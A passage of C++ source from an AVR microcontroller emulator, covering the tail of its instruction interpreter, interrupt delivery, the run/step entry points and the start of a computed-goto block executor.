      const std::uint16_t res = static_cast<std::uint16_t>(d + in.k);
      set_reg_pair(in.rd, res);
      set_sreg(sreg_adiw(sreg(), d, res));
      cyc = 2;
      break;
    }
    case Op::Sbiw: {
      const std::uint16_t d = reg_pair(in.rd);
      const std::uint16_t res = static_cast<std::uint16_t>(d - in.k);
      set_reg_pair(in.rd, res);
      set_sreg(sreg_sbiw(sreg(), d, res));
      cyc = 2;
      break;
    }

    // --- Control flow ---------------------------------------------------
    case Op::Rjmp:
      next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
      cyc = 2;
      break;
    case Op::Rcall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 4 : 3;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Jmp:
      next = static_cast<std::uint32_t>(in.target) & pc_mask_;
      cyc = 3;
      break;
    case Op::Call: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = static_cast<std::uint32_t>(in.target) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 5 : 4;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Ijmp:
      next = reg_pair(30) & pc_mask_;
      cyc = 2;
      break;
    case Op::Icall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = reg_pair(30) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 4 : 3;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Eijmp:
      next = ((static_cast<std::uint32_t>(data_.raw(kAddrEind)) << 16) |
              reg_pair(30)) &
             pc_mask_;
      cyc = 2;
      break;
    case Op::Eicall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = ((static_cast<std::uint32_t>(data_.raw(kAddrEind)) << 16) |
              reg_pair(30)) &
             pc_mask_;
      cyc = 4;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Ret:
    case Op::Reti: {
      const std::uint32_t raw = pop_pc();
      next = raw & pc_mask_;
      last_ret_raw_words_ = raw;
      last_ret_wrapped_ = (raw & ~pc_mask_) != 0;
      if (in.op == Op::Reti) set_flag(kI, true);
      cyc = spec_.pc_push_bytes == 3 ? 5 : 4;
      if constexpr (kTraced) {
        tracer_->on_ret(*this, pc0, next, raw, in.op == Op::Reti);
      }
      break;
    }
    case Op::Brbs:
      if (flag(static_cast<SregBit>(in.bit))) {
        next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
        cyc = 2;
      }
      break;
    case Op::Brbc:
      if (!flag(static_cast<SregBit>(in.bit))) {
        next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
        cyc = 2;
      }
      break;
    case Op::Sbrc:
      if (!((reg(in.rd) >> in.bit) & 1)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbrs:
      if ((reg(in.rd) >> in.bit) & 1) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbic:
      if (!((load_mem<kTraced>(kIoBase + in.k) >> in.bit) & 1)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbis:
      if ((load_mem<kTraced>(kIoBase + in.k) >> in.bit) & 1) {
        next = skip_target(next);
        cyc = 2;
      }
      break;

    // --- Data transfer ---------------------------------------------------
    case Op::Lds:
      set_reg(in.rd, load_mem<kTraced>(in.k));
      cyc = 2;
      break;
    case Op::Sts:
      store_mem<kTraced>(in.k, reg(in.rd));
      cyc = 2;
      break;
    case Op::LdX:
      set_reg(in.rd, load_mem<kTraced>(reg_pair(26)));
      cyc = 2;
      break;
    case Op::LdXInc: {
      const std::uint16_t x = reg_pair(26);
      set_reg(in.rd, load_mem<kTraced>(x));
      set_reg_pair(26, static_cast<std::uint16_t>(x + 1));
      cyc = 2;
      break;
    }
    case Op::LdXDec: {
      const std::uint16_t x = static_cast<std::uint16_t>(reg_pair(26) - 1);
      set_reg_pair(26, x);
      set_reg(in.rd, load_mem<kTraced>(x));
      cyc = 2;
      break;
    }
    case Op::LdYInc: {
      const std::uint16_t y = reg_pair(28);
      set_reg(in.rd, load_mem<kTraced>(y));
      set_reg_pair(28, static_cast<std::uint16_t>(y + 1));
      cyc = 2;
      break;
    }
    case Op::LdYDec: {
      const std::uint16_t y = static_cast<std::uint16_t>(reg_pair(28) - 1);
      set_reg_pair(28, y);
      set_reg(in.rd, load_mem<kTraced>(y));
      cyc = 2;
      break;
    }
    case Op::LddY:
      set_reg(in.rd, load_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(28) + in.k)));
      cyc = 2;
      break;
    case Op::LdZInc: {
      const std::uint16_t z = reg_pair(30);
      set_reg(in.rd, load_mem<kTraced>(z));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 2;
      break;
    }
    case Op::LdZDec: {
      const std::uint16_t z = static_cast<std::uint16_t>(reg_pair(30) - 1);
      set_reg_pair(30, z);
      set_reg(in.rd, load_mem<kTraced>(z));
      cyc = 2;
      break;
    }
    case Op::LddZ:
      set_reg(in.rd, load_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(30) + in.k)));
      cyc = 2;
      break;
    case Op::StX:
      store_mem<kTraced>(reg_pair(26), reg(in.rd));
      cyc = 2;
      break;
    case Op::StXInc: {
      const std::uint16_t x = reg_pair(26);
      store_mem<kTraced>(x, reg(in.rd));
      set_reg_pair(26, static_cast<std::uint16_t>(x + 1));
      cyc = 2;
      break;
    }
    case Op::StXDec: {
      const std::uint16_t x = static_cast<std::uint16_t>(reg_pair(26) - 1);
      set_reg_pair(26, x);
      store_mem<kTraced>(x, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StYInc: {
      const std::uint16_t y = reg_pair(28);
      store_mem<kTraced>(y, reg(in.rd));
      set_reg_pair(28, static_cast<std::uint16_t>(y + 1));
      cyc = 2;
      break;
    }
    case Op::StYDec: {
      const std::uint16_t y = static_cast<std::uint16_t>(reg_pair(28) - 1);
      set_reg_pair(28, y);
      store_mem<kTraced>(y, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StdY:
      store_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(28) + in.k), reg(in.rd));
      cyc = 2;
      break;
    case Op::StZInc: {
      const std::uint16_t z = reg_pair(30);
      store_mem<kTraced>(z, reg(in.rd));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 2;
      break;
    }
    case Op::StZDec: {
      const std::uint16_t z = static_cast<std::uint16_t>(reg_pair(30) - 1);
      set_reg_pair(30, z);
      store_mem<kTraced>(z, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StdZ:
      store_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(30) + in.k), reg(in.rd));
      cyc = 2;
      break;
    case Op::LpmR0:
      set_reg(0, flash_.byte(reg_pair(30)));
      cyc = 3;
      break;
    case Op::Lpm:
      set_reg(in.rd, flash_.byte(reg_pair(30)));
      cyc = 3;
      break;
    case Op::LpmInc: {
      const std::uint16_t z = reg_pair(30);
      set_reg(in.rd, flash_.byte(z));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 3;
      break;
    }
    case Op::ElpmR0:
    case Op::Elpm:
    case Op::ElpmInc: {
      const std::uint32_t z =
          (static_cast<std::uint32_t>(data_.raw(kAddrRampz)) << 16) |
          reg_pair(30);
      const std::uint8_t dest = (in.op == Op::ElpmR0) ? 0 : in.rd;
      set_reg(dest, flash_.byte(z));
      if (in.op == Op::ElpmInc) {
        const std::uint32_t z1 = z + 1;
        set_reg_pair(30, static_cast<std::uint16_t>(z1 & 0xFFFF));
        data_.set_raw(kAddrRampz, static_cast<std::uint8_t>((z1 >> 16) & 0xFF));
      }
      cyc = 3;
      break;
    }
    case Op::In:
      set_reg(in.rd, load_mem<kTraced>(kIoBase + in.k));
      break;
    case Op::Out:
      store_mem<kTraced>(kIoBase + in.k, reg(in.rd));
      break;
    case Op::Push:
      push_byte(reg(in.rd));
      cyc = 2;
      break;
    case Op::Pop:
      set_reg(in.rd, pop_byte());
      cyc = 2;
      break;

    // --- Bit operations ---------------------------------------------------
    case Op::Sbi: {
      const std::uint32_t addr = kIoBase + in.k;
      store_mem<kTraced>(addr, static_cast<std::uint8_t>(load_mem<kTraced>(addr) |
                                                  (1u << in.bit)));
      cyc = 2;
      break;
    }
    case Op::Cbi: {
      const std::uint32_t addr = kIoBase + in.k;
      store_mem<kTraced>(addr, static_cast<std::uint8_t>(load_mem<kTraced>(addr) &
                                                  ~(1u << in.bit)));
      cyc = 2;
      break;
    }
    case Op::Bset:
      set_flag(static_cast<SregBit>(in.bit), true);
      break;
    case Op::Bclr:
      set_flag(static_cast<SregBit>(in.bit), false);
      break;
    case Op::Bst:
      set_flag(kT, (reg(in.rd) >> in.bit) & 1);
      break;
    case Op::Bld: {
      std::uint8_t d = reg(in.rd);
      if (flag(kT)) {
        d |= static_cast<std::uint8_t>(1u << in.bit);
      } else {
        d &= static_cast<std::uint8_t>(~(1u << in.bit));
      }
      set_reg(in.rd, d);
      break;
    }
  }

  if constexpr (kTraced) {
    // Fires before the PC advances so watchpoint hits report the pc of the
    // instruction that moved SP (the stk_move pivot's OUT, a push, ...).
    const std::uint16_t sp1 = sp();
    if (sp1 != sp0) tracer_->on_sp_change(*this, sp0, sp1);
  }

  pc = next & pc_mask_;
  cycles += cyc;
  ++retired;
  // Publish the post-retire time for clock-reading devices (one store),
  // then dispatch device ticks only when a cached deadline is crossed —
  // the per-instruction virtual broadcast is gone from the hot path.
  io_.set_now(cycles);
  if (cycles >= io_.next_deadline()) [[unlikely]] io_.tick(cycles);

  if constexpr (kTraced) {
    pc_ = pc;
    cycles_ = cycles;
    retired_ = retired;
    tracer_->on_retire(*this, pc0, in, cyc);
  }

  // Interrupt delivery between instructions (lowest vector slot wins).
  // Lines are only walked while the bus's interrupt hint is up — devices
  // raise it when a condition goes pending, and a poll that finds nothing
  // clears it, so quiescent stretches skip the indirect take() calls.
  if (flag(kI) && io_.irq_hint() && !irq_lines_.empty()) {
    poll_irq_lines<kTraced>(pc, cycles);
  }
  } while (!single && state_ == CpuState::Running && cycles < deadline);
  } catch (...) {
    pc_ = pc;
    cycles_ = cycles;
    retired_ = retired;
    throw;
  }
  pc_ = pc;
  cycles_ = cycles;
  retired_ = retired;
}

void Cpu::step() {
  sync_decode_cache();
  io_.raise_irq();
  if (tracer_ == nullptr) [[likely]] {
    step_impl<false>(0, /*single=*/true);
  } else {
    step_impl<true>(0, /*single=*/true);
  }
}

// Delivery shared by both interpreter instantiations and the tier
// dispatcher. Caller holds the gate (I set, hint up, lines registered);
// locals are the caller's live pc/cycle counters.
template <bool kTraced>
void Cpu::poll_irq_lines(std::uint32_t& pc, std::uint64_t& cycles) {
  bool took = false;
  for (const IrqLine& line : irq_lines_) {
    if (!line.take(line.ctx)) continue;
    took = true;
    const std::uint32_t from = pc;
    [[maybe_unused]] std::uint16_t sp_before = 0;
    if constexpr (kTraced) sp_before = sp();
    push_pc(from);
    set_flag(kI, false);
    pc = (static_cast<std::uint32_t>(line.slot) * 2) & pc_mask_;
    cycles += 5;
    ++interrupts_taken_;
    if constexpr (kTraced) {
      pc_ = pc;
      cycles_ = cycles;
      tracer_->on_sp_change(*this, sp_before, sp());
      tracer_->on_irq(*this, line.slot, from);
    }
    break;
  }
  // Keep the hint up after a dispatch: another line may still be pending
  // (it will be re-polled at the next instruction with I set).
  if (!took) io_.clear_irq_hint();
}

void Cpu::set_irq_line(std::uint8_t vector_slot, IrqTakeFn take, void* ctx) {
  irq_lines_.push_back(IrqLine{vector_slot, take, ctx});
  std::sort(
      irq_lines_.begin(), irq_lines_.end(),
      [](const IrqLine& a, const IrqLine& b) { return a.slot < b.slot; });
}

std::uint64_t Cpu::run(std::uint64_t cycle_budget) {
  sync_decode_cache();
  // Pending state may have been flipped from outside the simulation loop
  // (tests driving lines directly, UART feeds between runs): poll at least
  // once regardless of device hints.
  io_.raise_irq();
  const std::uint64_t start = cycles_;
  const std::uint64_t deadline = start + cycle_budget;
  // Execution mode resolved once per run: a tracer demotes to the traced
  // interpreter (hooks fire per instruction, which a block executor cannot
  // provide), otherwise the superblock tier runs unless toggled off for
  // benchmarking. Every mode is bit-identical; see DESIGN.md §16.
  if (cycle_budget != 0) {
    if (tracer_ == nullptr) [[likely]] {
      if (exec_tier_) [[likely]] {
        run_tier(deadline);
      } else {
        step_impl<false>(deadline, /*single=*/false);
      }
    } else {
      step_impl<true>(deadline, /*single=*/false);
    }
  }
  return cycles_ - start;
}

#if defined(__GNUC__) || defined(__clang__)

/// Advance to the next micro-op of the current block (computed goto —
/// each handler ends with its own indirect jump, so the branch predictor
/// sees one distinct jump site per opcode instead of a shared dispatch).
#define MAVR_TIER_NEXT() \
  do {                   \
    ++op;                \
    goto* kJump[static_cast<std::size_t>(op->kind)]; \
  } while (0)

/// Dispatched-I/O access inside a block: run it through the full bus path
/// and — when the handler provably could not affect anything the rest of
/// the block observes (interrupt hint, tick deadline, and flash
/// generation all untouched) — keep executing the block. Otherwise fall
/// through to the caller's block-exit code, which retires this op through
/// the interpreter-exact boundary sequence.
#define MAVR_TIER_IO_CALL(access)                                  \
  dispatch_at();                                                   \
  const bool hint0 = io_.irq_hint();                               \
  const std::uint64_t dl0 = io_.next_deadline();                   \
  access;                                                          \
  if (io_.irq_hint() == hint0 && io_.next_deadline() == dl0 &&     \
      flash_.generation() == gen0) [[likely]] {                    \
    MAVR_TIER_NEXT();                                              \
  }                                                                \
  if (flash_.generation() != gen0) want_resync = true

/// Same, for a dispatched skip-test (SBIC/SBIS): the taken (skip) path
/// always exits at this boundary, the not-taken path continues in the
/// block only for a benign handler.
#define MAVR_TIER_IO_CALL_COND(access, taken_expr)                 \
  dispatch_at();                                                   \
  const bool hint0 = io_.irq_hint();                               \
  const std::uint64_t dl0 = io_.next_deadline();                   \
  access;                                                          \
  const bool benign =                                              \
      io_.irq_hint() == hint0 && io_.next_deadline() == dl0 &&     \
      flash_.generation() == gen0;                                 \
  if (!benign && flash_.generation() != gen0) want_resync = true;  \
  if (taken_expr) {                                                \
    next_pc = op->target;                                          \
    term_cyc = op->cyc;                                            \
  } else {                                                         \
    if (benign) [[likely]] MAVR_TIER_NEXT();                       \
    next_pc = op->target2;                                         \
    term_cyc = 1;                                                  \
  }

void Cpu::run_tier(std::uint64_t deadline) {
  if (state_ != CpuState::Running) return;

  // Loop-invariant locals: byte stores through `ram` may alias any member
  // (char-type aliasing), so members read inside handlers would be
  // reloaded after every store. Locals are immune.
  std::uint8_t* const ram = ram_;
  // `restrict` holds for the same reason as the op arena below: handler
  // registration (the only dispatch-map writer) happens during board
  // construction, never from inside a running simulation.
  const std::uint8_t* const __restrict disp = io_.dispatch_map();
  const std::uint32_t mask = pc_mask_;
  const std::uint32_t data_size = data_size_;
  const std::uint32_t ram_span = data_size_ - kExtIoEnd;
  const unsigned push_n = push_bytes_;

  // Cache geometry, also hoisted: the map pointer is stable for the whole
  // run (sync() sizes it once; translate() never resizes it), the epoch
  // and block/op arrays are re-hoisted after a translate() or a mid-run
  // reflash resync.
  tier_.sync(flash_, io_.handler_generation());
  const std::uint64_t* const tmap = tier_.map.data();
  std::uint64_t tepoch = tier_.epoch;
  std::uint64_t gen0 = tier_.generation;
  const TierBlock* tblocks = tier_.blocks.data();
  const TierOp* tarena = tier_.arena.data();
  // Set when a dispatched handler moved the flash generation mid-run (a
  // device-triggered reflash): every translation is stale, so the
  // executor drains back to the resync loop below.
  bool want_resync = false;

  std::uint32_t pc = pc_;
  std::uint64_t cycles = cycles_;
  std::uint64_t retired = retired_;

  std::uint64_t stat_blocks = 0, stat_insns = 0, stat_sides = 0,
                stat_io = 0, stat_self = 0, stat_steps = 0;
  const auto flush_stats = [&] {
    tier_.stats.blocks_executed += stat_blocks;
    tier_.stats.block_instructions += stat_insns;
    tier_.stats.side_exits += stat_sides;
    tier_.stats.io_dispatches += stat_io;
    tier_.stats.self_loops += stat_self;
    tier_.stats.interp_steps += stat_steps;
  };
  // One cycle-exact interpreter step (its own tick check and IRQ poll
  // included) with the members synced around it.
  const auto interp_one = [&] {
    pc_ = pc;
    cycles_ = cycles;
    retired_ = retired;
    step_impl<false>(deadline, /*single=*/true);
    pc = pc_;
    cycles = cycles_;
    retired = retired_;
    ++stat_steps;
  };

  try {
   resync:
    while (!want_resync && state_ == CpuState::Running && cycles < deadline) {
      // A pending interrupt must be delivered at the very next instruction
      // boundary — blocks only poll at their end, so step the interpreter
      // (which polls after every instruction) until the gate drops.
      if ((ram[kAddrSreg] & fb(kI)) != 0 && io_.irq_hint() &&
          !irq_lines_.empty()) {
        interp_one();
        continue;
      }
      const std::uint64_t slot = tmap[pc];
      const TierBlock* bp;
      if ((slot >> 32) != tepoch) [[unlikely]] {
        bp = &tier_.translate(flash_, disp, pc, mask, data_size, push_bytes_);
        tblocks = tier_.blocks.data();
        tarena = tier_.arena.data();
      } else {
        bp = tblocks + static_cast<std::uint32_t>(slot);
      }
      if (bp->interp_only) [[unlikely]] {
        interp_one();
        continue;
      }
      // Hot block fields in registers: byte stores through `ram` may alias
      // the block array, so member reads after a store would reload.
      const std::uint32_t blk_head = bp->head_pc;
      const std::uint32_t blk_worst = bp->worst_cycles;
      // The interpreter checks the run deadline and the I/O tick deadline
      // after every instruction; a block may only run whole if neither can
      // trigger inside it. worst_cycles bounds every prefix, so past this
      // guard the block is indistinguishable from single-stepping.
      {
        const std::uint64_t io_deadline = io_.next_deadline();
        const std::uint64_t stop =
            io_deadline < deadline ? io_deadline : deadline;
        if (cycles + blk_worst >= stop) [[unlikely]] {
          // Batch through the interpreter until just past the blocking
          // deadline — single-stepping here would re-fail this guard at
          // every boundary in the window, and the interpreter runs the
          // tick/poll sequence itself, cycle-exactly.
          std::uint64_t target = stop < deadline ? stop + 1 : deadline;
          if (target <= cycles) target = cycles + 1;
          pc_ = pc;
          cycles_ = cycles;
          retired_ = retired;
          const std::uint64_t retired0 = retired;
          step_impl<false>(target, /*single=*/false);
          pc = pc_;
          cycles = cycles_;
          retired = retired_;
          stat_steps += retired - retired0;
          continue;
        }
      }

      // `restrict`: block stores go through `ram` (a char* that formally
      // aliases everything), but the op arena is never written while a
      // block runs — translate()/resync happen only between blocks — so
      // the compiler may cache op fields across those stores.
      const TierOp* const __restrict base = tarena + bp->first_op;
      const TierOp* __restrict op = base;
      // SREG cached in a register for the whole block: every op that could
      // observe it through memory is either special-cased (IN/LDS 0x5F) or
      // ends the block (OUT/STS 0x5F), and it is written back at every
      // exit before any interpreter code can run.
      std::uint8_t sreg = ram[kAddrSreg];
      std::uint32_t next_pc = 0;
      std::uint32_t term_cyc = 0;
      // Prologue for an in-block access that must go through the full bus
      // path: publish the clock handlers would read under the interpreter
      // (set after the previous instruction) and sync the members so a
      // throwing handler reports instruction-exact state.
      const auto dispatch_at = [&] {
        ++stat_io;
        ram[kAddrSreg] = sreg;
        const std::uint64_t at = cycles + op->cyc_before;
        io_.set_now(at);
        pc_ = op->pc_abs;
        cycles_ = at;
        retired_ = retired + op->ins_before;
      };

      static const void* const kJump[] = {
          &&L_Add, &&L_Adc, &&L_Sub, &&L_Sbc, &&L_And, &&L_Or, &&L_Eor,
          &&L_Mov, &&L_Movw, &&L_Mul, &&L_Cp, &&L_Cpc, &&L_Ldi, &&L_Subi,
          &&L_Sbci, &&L_Andi, &&L_Ori, &&L_Cpi, &&L_Com, &&L_Neg, &&L_Inc,
          &&L_Dec, &&L_Swap, &&L_Asr, &&L_Lsr, &&L_Ror, &&L_Adiw, &&L_Sbiw,
          &&L_Bset, &&L_Bclr, &&L_Bst, &&L_Bld, &&L_Nop, &&L_LdsRam,
          &&L_StsRam, &&L_LdsLow, &&L_StsLow, &&L_LdsSreg, &&L_In,
          &&L_InSreg, &&L_Out, &&L_Sbi, &&L_Cbi, &&L_LdX, &&L_LdXInc,
          &&L_LdXDec, &&L_LdYInc, &&L_LdYDec, &&L_LddY, &&L_LdZInc,
          &&L_LdZDec, &&L_LddZ, &&L_StX, &&L_StXInc, &&L_StXDec,
          &&L_StYInc, &&L_StYDec, &&L_StdY, &&L_StZInc, &&L_StZDec,
          &&L_StdZ, &&L_LpmR0, &&L_Lpm, &&L_LpmInc, &&L_ElpmR0, &&L_Elpm,
          &&L_ElpmInc, &&L_Push, &&L_Pop, &&L_CallPush, &&L_Lds2, &&L_Sts2,
          &&L_Ldi2, &&L_LdiAdd, &&L_LdsAdd, &&L_LdsSub, &&L_AddSts,
          &&L_RorLdi, &&L_AddAdc, &&L_AddAdd, &&L_SubSbc, &&L_SubiSbci,
          &&L_AsrRor, &&L_RorAsr, &&L_LdsSts, &&L_StsLds, &&L_CondBrbs,
          &&L_CondBrbc, &&L_CondCpse, &&L_CondSbrc, &&L_CondSbrs,
          &&L_CondSbic, &&L_CondSbis, &&L_CondRet, &&L_TermIjmp, &&L_TermEijmp,
          &&L_TermIcall, &&L_TermEicall, &&L_TermRet, &&L_TermReti,
          &&L_TermBsetI, &&L_TermOutSreg, &&L_TermFall,
      };
      static_assert(sizeof(kJump) / sizeof(kJump[0]) == kTierOpKinds,
                    "dispatch table must cover every TierOpKind");
    exec_entry:
      goto* kJump[static_cast<std::size_t>(op->kind)];

    // --- ALU -----------------------------------------------------------
    L_Add: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      const std::uint8_t res = static_cast<std::uint8_t>(d + r);
      ram[op->a] = res;
      sreg = sreg_add(sreg, d, r, res);
    }
      MAVR_TIER_NEXT();
    L_Adc: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      const std::uint8_t carry = sreg & 1;
      const std::uint8_t res = static_cast<std::uint8_t>(d + r + carry);
      ram[op->a] = res;
      sreg = sreg_add(sreg, d, r, res);
    }
      MAVR_TIER_NEXT();
    L_Sub: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      ram[op->a] = res;
      sreg = sreg_sub(sreg, d, r, res, /*keep_z=*/false);
    }
      MAVR_TIER_NEXT();
    L_Sbc: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      const std::uint8_t borrow = sreg & 1;
      const std::uint8_t res = static_cast<std::uint8_t>(d - r - borrow);
      ram[op->a] = res;
      sreg = sreg_sub(sreg, d, r, res, /*keep_z=*/true);
    }
      MAVR_TIER_NEXT();
    L_And: {
      const std::uint8_t res = ram[op->a] & ram[op->b];
      ram[op->a] = res;
      sreg = sreg_logic(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Or: {
      const std::uint8_t res = ram[op->a] | ram[op->b];
      ram[op->a] = res;
      sreg = sreg_logic(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Eor: {
      const std::uint8_t res = ram[op->a] ^ ram[op->b];
      ram[op->a] = res;
      sreg = sreg_logic(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Mov:
      ram[op->a] = ram[op->b];
      MAVR_TIER_NEXT();
    L_Movw:
      ram[op->a] = ram[op->b];
      ram[op->a + 1] = ram[op->b + 1];
      MAVR_TIER_NEXT();
    L_Mul: {
      const std::uint16_t res =
          static_cast<std::uint16_t>(unsigned(ram[op->a]) * ram[op->b]);
      ram[0] = static_cast<std::uint8_t>(res & 0xFF);
      ram[1] = static_cast<std::uint8_t>(res >> 8);
      sreg = sreg_mul(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Cp: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      sreg = sreg_sub(sreg, d, r, static_cast<std::uint8_t>(d - r), false);
    }
      MAVR_TIER_NEXT();
    L_Cpc: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      const std::uint8_t borrow = sreg & 1;
      sreg = sreg_sub(sreg, d, r,
                      static_cast<std::uint8_t>(d - r - borrow),
                      /*keep_z=*/true);
    }
      MAVR_TIER_NEXT();
    L_Ldi:
      ram[op->a] = static_cast<std::uint8_t>(op->k);
      MAVR_TIER_NEXT();
    L_Subi: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t r = static_cast<std::uint8_t>(op->k);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      ram[op->a] = res;
      sreg = sreg_sub(sreg, d, r, res, false);
    }
      MAVR_TIER_NEXT();
    L_Sbci: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t r = static_cast<std::uint8_t>(op->k);
      const std::uint8_t borrow = sreg & 1;
      const std::uint8_t res = static_cast<std::uint8_t>(d - r - borrow);
      ram[op->a] = res;
      sreg = sreg_sub(sreg, d, r, res, /*keep_z=*/true);
    }
      MAVR_TIER_NEXT();
    L_Andi: {
      const std::uint8_t res = ram[op->a] & static_cast<std::uint8_t>(op->k);
      ram[op->a] = res;
      sreg = sreg_logic(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Ori: {
      const std::uint8_t res = ram[op->a] | static_cast<std::uint8_t>(op->k);
      ram[op->a] = res;
      sreg = sreg_logic(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Cpi: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t r = static_cast<std::uint8_t>(op->k);
      sreg = sreg_sub(sreg, d, r, static_cast<std::uint8_t>(d - r), false);
    }
      MAVR_TIER_NEXT();
    L_Com: {
      const std::uint8_t res = static_cast<std::uint8_t>(~ram[op->a]);
      ram[op->a] = res;
      sreg = sreg_com(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Neg: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t res = static_cast<std::uint8_t>(0 - d);
      ram[op->a] = res;
      sreg = sreg_neg(sreg, d, res);
    }
      MAVR_TIER_NEXT();
    L_Inc: {
      const std::uint8_t res = static_cast<std::uint8_t>(ram[op->a] + 1);
      ram[op->a] = res;
      sreg = sreg_inc(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Dec: {
      const std::uint8_t res = static_cast<std::uint8_t>(ram[op->a] - 1);
      ram[op->a] = res;
      sreg = sreg_dec(sreg, res);
    }
      MAVR_TIER_NEXT();
    L_Swap: {
      const std::uint8_t d = ram[op->a];
      ram[op->a] = static_cast<std::uint8_t>((d << 4) | (d >> 4));
    }
      MAVR_TIER_NEXT();
    L_Asr: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t res =
          static_cast<std::uint8_t>((d >> 1) | (d & 0x80));
      ram[op->a] = res;
      sreg = sreg_asr_ror(sreg, d, res);
    }
      MAVR_TIER_NEXT();
    L_Lsr: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t res = static_cast<std::uint8_t>(d >> 1);
      ram[op->a] = res;
      sreg = sreg_lsr(sreg, d, res);
    }
      MAVR_TIER_NEXT();
    L_Ror: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t res =
          static_cast<std::uint8_t>((d >> 1) | ((sreg & 1) ? 0x80 : 0));
      ram[op->a] = res;
      sreg = sreg_asr_ror(sreg, d, res);
    }
      MAVR_TIER_NEXT();
    L_Adiw: {
      const std::uint16_t d =
          static_cast<std::uint16_t>(ram[op->a] | (ram[op->a + 1] << 8));
      const std::uint16_t res = static_cast<std::uint16_t>(d + op->k);
      ram[op->a] = static_cast<std::uint8_t>(res & 0xFF);
      ram[op->a + 1] = static_cast<std::uint8_t>(res >> 8);
      sreg = sreg_adiw(sreg, d, res);
    }
      MAVR_TIER_NEXT();
    L_Sbiw: {
      const std::uint16_t d =
          static_cast<std::uint16_t>(ram[op->a] | (ram[op->a + 1] << 8));
      const std::uint16_t res = static_cast<std::uint16_t>(d - op->k);
      ram[op->a] = static_cast<std::uint8_t>(res & 0xFF);
      ram[op->a + 1] = static_cast<std::uint8_t>(res >> 8);
      sreg = sreg_sbiw(sreg, d, res);
    }
      MAVR_TIER_NEXT();
    L_Bset:  // never bit I (that encoding terminates the block)
      sreg |= static_cast<std::uint8_t>(1u << op->b);
      MAVR_TIER_NEXT();
    L_Bclr:
      sreg &= static_cast<std::uint8_t>(~(1u << op->b));
      MAVR_TIER_NEXT();
    L_Bst:
      sreg = static_cast<std::uint8_t>(
          (sreg & ~fb(kT)) | (((ram[op->a] >> op->b) & 1u) << kT));
      MAVR_TIER_NEXT();
    L_Bld: {
      std::uint8_t d = ram[op->a];
      if (sreg & fb(kT)) {
        d |= static_cast<std::uint8_t>(1u << op->b);
      } else {
        d &= static_cast<std::uint8_t>(~(1u << op->b));
      }
      ram[op->a] = d;
    }
      MAVR_TIER_NEXT();
    L_Nop:
      MAVR_TIER_NEXT();

    // --- static-address data transfer ----------------------------------
    L_LdsRam:
      ram[op->a] = ram[op->k];
      MAVR_TIER_NEXT();
    L_StsRam:
      ram[op->k] = ram[op->a];
      MAVR_TIER_NEXT();
    // Device-dispatched access: perform it through the full bus path and
    // retire this op as the block's last — the subsequent block_done runs
    // the interpreter's exact post-instruction sequence (set_now, tick on
    // crossed deadline, IRQ poll), so a handler that reprograms the timer
    // or raises the hint is observed at the same boundary it would be
    // under single-stepping. `dispatch_at` publishes the clock the
    // interpreter's handlers would read (set after the *previous*
    // instruction) and syncs members for exception context.
    L_LdsLow:
      if (disp[op->k] & IoBus::kHandlesRead) [[unlikely]] {
        MAVR_TIER_IO_CALL(ram[op->a] = data_.load(op->k));
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      ram[op->a] = ram[op->k];
      MAVR_TIER_NEXT();
    L_StsLow:
      if (disp[op->k] & IoBus::kHandlesWrite) [[unlikely]] {
        MAVR_TIER_IO_CALL(data_.store(op->k, ram[op->a]));
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
